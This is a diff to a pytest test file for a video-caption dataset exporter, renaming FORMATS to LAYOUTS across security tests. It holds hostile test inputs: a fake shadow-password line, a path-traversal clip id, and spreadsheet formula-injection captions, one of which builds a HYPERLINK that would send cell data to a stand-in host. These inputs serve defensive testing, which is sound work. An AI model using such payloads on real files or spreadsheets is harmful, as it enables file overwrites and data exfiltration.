@@ -15,15 +15,13 @@ import threading
 
 import pytest
 
-from framescribe.export import formats
 from framescribe.export.run import export
 from tests.cli.run import invoke
-from tests.export.conftest import of_any_length, row, video
+from tests.export.conftest import LAYOUTS, row, video
 from tests.export.loaders import LOADERS
 
 SECRET = b"root:$6$secret:19000:0:99999:7:::\n"
-FORMATS = {name: of_any_length(each) for name, each in formats.FORMATS.items()}
-LTX = FORMATS["ltx"]
+LTX = LAYOUTS["ltx"]
 
 
 @pytest.fixture
@@ -37,7 +35,7 @@ def good(tmp_path):
 def left_out(bad, good, tmp_path, name="ltx", **options):
     """Reasons for the bad rows; nothing but the good one was exported, and nothing written outside the target."""
     before = set(tmp_path.rglob("*"))
-    report = export([*bad, *good], FORMATS[name], tmp_path / "set", **options)
+    report = export([*bad, *good], LAYOUTS[name], tmp_path / "set", **options)
     assert LOADERS[name](tmp_path / "set") == [(video(1), "A cat.")]
     exported = [path for path in (tmp_path / "set").rglob("*") if path.is_file()]
     assert not any(SECRET[:12] in path.read_bytes() for path in exported)
@@ -194,7 +192,7 @@ def test_long_ids_and_names_that_are_alike_after_cleaning_stay_apart(good, tmp_p
     ):
         (tmp_path / name).write_bytes(video(10 + at))
         rows.append(row(10 + at, tmp_path / name, name, clip_id=f"{'id/' * 5_000}{at}"))
-    for name, layout in FORMATS.items():
+    for name, layout in LAYOUTS.items():
         report = export(rows, layout, tmp_path / "set", accepted_flags={"duplicate"}, overwrite=True)
         assert report.exported == len(rows)
         assert sorted(caption for _, caption in LOADERS[name](tmp_path / "set")) == sorted(
@@ -205,7 +203,7 @@ def test_long_ids_and_names_that_are_alike_after_cleaning_stay_apart(good, tmp_p
 @pytest.mark.parametrize("target", ["videos", "labels", ".framescribe", "train"])
 def test_ids_cannot_name_files_of_the_layout(target, good, tmp_path):
     bad = row(2, tmp_path / "allowed/good.mp4", "A dog.", clip_id=f"../{target}/../../x")
-    for layout in FORMATS.values():
+    for layout in LAYOUTS.values():
         export([*good, bad], layout, tmp_path / "set", overwrite=True)
         assert sorted(os.listdir(tmp_path)) == ["allowed", "set"]
 
@@ -221,7 +219,7 @@ def test_control_characters_of_names_and_captions_reach_neither_files_nor_termin
         row(3, missing, "x"),
     ]
     (tmp_path / "rows.jsonl").write_text("".join(json.dumps(each) + "\n" for each in rows))
-    for name in FORMATS:
+    for name in LAYOUTS:
         result = invoke(
             "export", tmp_path / "rows.jsonl", "--to", name, "-t", tmp_path / "set", "--overwrite"
         )
@@ -240,12 +238,12 @@ def test_control_characters_of_names_and_captions_reach_neither_files_nor_termin
 FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "=1+1", "\t=1+1"]
 
 
-@pytest.mark.parametrize("name", FORMATS)
+@pytest.mark.parametrize("name", LAYOUTS)
 def test_captions_that_a_spreadsheet_would_run_reach_the_trainer_as_they_are_and_are_said(
     name, good, tmp_path
 ):
     rows = [row(2 + at, good[0]["source_video"], caption) for at, caption in enumerate(FORMULAS)]
-    report = export([*good, *rows], FORMATS[name], tmp_path / "set", accepted_flags={"duplicate"})
+    report = export([*good, *rows], LAYOUTS[name], tmp_path / "set", accepted_flags={"duplicate"})
     assert sorted({caption for _, caption in LOADERS[name](tmp_path / "set")}) == sorted(
         {"A cat.", *(" ".join(caption.split()) for caption in FORMULAS)}
     )
